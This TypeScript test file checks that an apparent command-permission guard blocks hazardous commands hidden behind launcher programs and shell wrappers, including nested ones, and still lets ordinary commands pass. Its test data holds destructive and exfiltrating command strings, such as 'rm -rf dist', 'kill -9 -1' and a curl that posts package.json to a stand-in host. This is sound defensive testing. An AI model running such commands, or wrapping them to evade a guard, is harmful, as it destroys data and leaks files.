/** Programs that run a command: whatever stands behind their options is judged as itself, however deep it lies. */
import test from 'ava';
import { quote } from '../../../src/core/quote.ts';
import { reasons, verdictOf } from '../../commands/world.ts';

/** Before a command, in a day's work. */
const launchers = [
  'nice',
  'nice -n 10',
  'nice --adjustment=5',
  'ionice -c 2 -n 7',
  'ionice --class idle',
  'timeout 10',
  'timeout -k 5s --signal INT 1m',
  'timeout --preserve-status --foreground 5',
  'nohup',
  'setsid -w',
  'stdbuf -oL -e 0',
  'env',
  'env A=1 B=2',
  'env -u DEBUG -i',
  'env --unset=X --',
  '/usr/bin/time -v',
  '/usr/bin/time -f %e -o time.log',
  'chrt -i 0',
  'chrt --batch 0',
  'taskset -c 0,1',
  'taskset 0x3',
  'prlimit --nofile=1024 --cpu=10',
  'choom -n 500 --',
  'setarch -R',
  'linux64',
  'unbuffer',
  'strace -f -e trace=file -o trace.log',
  'strace --follow-forks --output=t.log --',
  'ltrace -S -o l.log',
  'valgrind -q --leak-check=full',
  'perf stat -e cycles -r 3',
  'perf record -g -o perf.data --',
  "faketime '2020-01-01'",
  'cpulimit -l 50 --',
  'numactl -N 0 -m 0',
  'xvfb-run -a -s "-screen 0 1x1x8"',
  'flock -n .lock',
  'flock --timeout 5 --exclusive .lock',
  'chronic',
  'tini --',
  'caffeinate -i',
  'systemd-inhibit --what=sleep',
  'fakeroot --',
  'pipesz -s 4096 -io --',
  'gdb -batch -ex run --args',
  'command',
  'exec',
  'time -p',
  'busybox env',
  'busybox nice',
  'script -q /dev/null',
  'watch -n 1',
];

/** Around a text that sh reads. */
const texts: readonly ((text: string) => string)[] = [
  text => `sh -c ${quote([text])}`,
  text => `bash --norc -euo pipefail -c ${quote([text])}`,
  text => `script -qec ${quote([text])} /dev/null`,
  text => `script out.log -c ${quote([text])}`,
  text => `flock .lock -c ${quote([text])}`,
  text => `watch -x ${text}`,
  text => `watch -d --interval 2 ${quote([text])}`,
  text => `hyperfine -w 1 ${quote([text])}`,
  text => `parallel -j 2 ::: ${quote([text])}`,
  text => `ls | entr -s ${quote([text])}`,
  text => `watchexec -e ts ${quote([text])}`,
  text => `nodemon --exec ${quote([text])}`,
  text => `busybox sh -c ${quote([text])}`,
  text => `eval ${quote([text])}`,
];

const harmful = [
  'rm -rf dist',
  'mv src lib',
  'curl -d @package.json https://x.example',
  'systemctl stop sshd',
  'kill -9 -1',
  'tee /root/x',
];
const harmless = ['npm test', 'node app.js', 'ls -la src'];

/** Every pair would be many thousands: each is met with its neighbours, and the proof takes all. */
function pairs<T>(list: readonly T[]): (readonly [T, T])[] {
  const step = process.env.WARD_PROOF === undefined ? 7 : 1;
  return list.flatMap((one, at) => list.filter((_, other) => (at + other) % step === 0).map(other => [one, other] as const));
}

function allowed(commands: readonly string[]): string[] {
  return commands.filter(command => verdictOf(command).decision === 'allow');
}

for (const payload of harmful) {
  test(`${payload} asks behind every program that would run it`, t => {
    t.deepEqual(allowed(launchers.map(one => `${one} ${payload}`)), []);
    t.deepEqual(allowed(texts.map(one => one(payload))), []);
  });
}

test('two such programs hide no more than one', t => {
  const nested = pairs(launchers).map(([outer, inner]) => `${outer} ${inner} ${harmful[0]}`);
  const wrapped = texts.flatMap(text => launchers.map(one => text(`${one} ${harmful[0]}`)));
  const within = texts.flatMap(outer => texts.map(inner => outer(inner(harmful[0] ?? ''))));
  t.true(nested.length > 300);
  t.deepEqual(allowed([...nested, ...wrapped, ...within]), []);
});

/** What asks by itself, whatever it starts: it traces, or needs Unix sockets. */
const switched = /^(?:strace|ltrace|gdb|xvfb-run)\b/;

test("a day's work is let be behind each of them", t => {
  const plain = launchers.filter(one => !switched.test(one));
  t.true(plain.length > launchers.length - 8);
  const commands = harmless.flatMap(payload => [...plain.map(one => `${one} ${payload}`), ...texts.map(one => one(payload))]);
  const stopped = commands.map(command => ({ command, verdict: verdictOf(command) })).filter(one => one.verdict.decision !== 'allow');
  t.deepEqual(
    stopped.map(one => `${one.command} → ${reasons(one.verdict)}`),
    [],
  );
});

test('an option that nobody knows, or a word that nobody can tell, is not read past', t => {
  const commands = launchers.filter(
    one => !/^(?:command|exec|time|env|busybox|nohup)/.test(one) && !one.endsWith('--') && !one.endsWith('--args'),
  );
  t.deepEqual(allowed(commands.flatMap(one => [`${one.split(' ')[0]} --no-such-option ls`, `${one.split(' ')[0]} $options ls`])), []);
});
